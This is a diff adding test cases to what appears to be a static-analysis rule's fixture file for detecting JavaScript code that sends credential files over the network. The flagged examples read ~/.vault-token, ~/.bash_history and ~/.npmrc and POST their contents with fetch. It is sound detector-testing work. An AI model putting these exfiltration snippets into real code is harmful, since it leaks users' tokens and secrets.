@@ -50,6 +50,25 @@ async function inline(url) {
   await fetch(url, { method: "POST", body: fs.readFileSync(os.homedir() + "/.npmrc") });
 }
 
+async function vaultToken(url) {
+  // ruleid: js-credential-file-sent-over-network
+  await fetch(url, { method: "POST", body: fs.readFileSync(os.homedir() + "/.vault-token") });
+}
+
+async function shellHistory(url) {
+  const history = fs.readFileSync(path.join(os.homedir(), ".bash_history"), "utf8");
+  // ruleid: js-credential-file-sent-over-network
+  await fetch(url, { method: "POST", body: history });
+}
+
+async function publicKeyAndTemplate(url) {
+  const pub = fs.readFileSync(os.homedir() + "/.ssh/id_ed25519.pub", "utf8");
+  // ok: js-credential-file-sent-over-network
+  await fetch(url, { method: "POST", body: pub });
+  // ok: js-credential-file-sent-over-network
+  await fetch(url, { method: "POST", body: fs.readFileSync(".env.example", "utf8") });
+}
+
 async function notCred(url) {
   const readme = fs.readFileSync("README.md", "utf8");
   // ok: js-credential-file-sent-over-network
